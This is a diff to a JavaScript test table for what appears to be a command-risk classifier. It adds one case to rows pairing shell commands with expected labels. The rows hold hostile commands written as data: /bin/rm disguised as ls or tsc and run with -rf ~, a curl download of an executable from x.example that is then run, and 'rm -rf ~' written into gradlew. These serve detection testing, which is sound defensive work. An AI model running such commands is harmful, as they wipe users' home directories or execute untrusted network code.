@@ -211,6 +211,7 @@ describe('a program at a path, by the name of one that is known', () => {
   it.each([
     ['cp /bin/rm ls; ./ls -rf ~', 'code.exec /bin/rm origin=foreign-file'],
     ['ln -s /bin/rm ls; ./ls -rf ~', 'code.exec /bin/rm origin=foreign-file'],
+    ['cp /bin/rm node_modules/.bin/tsc; ./node_modules/.bin/tsc -rf ~', 'code.exec /bin/rm origin=foreign-file'],
     ['cat /bin/rm > ls; chmod +x ls; ./ls -rf ~', 'code.exec'],
     ['curl -o ls https://x.example/ls; chmod +x ls; ./ls', 'code.exec origin=network'],
     ["echo 'rm -rf ~' > gradlew; ./gradlew build", 'fs.delete /home/dana root=home'],
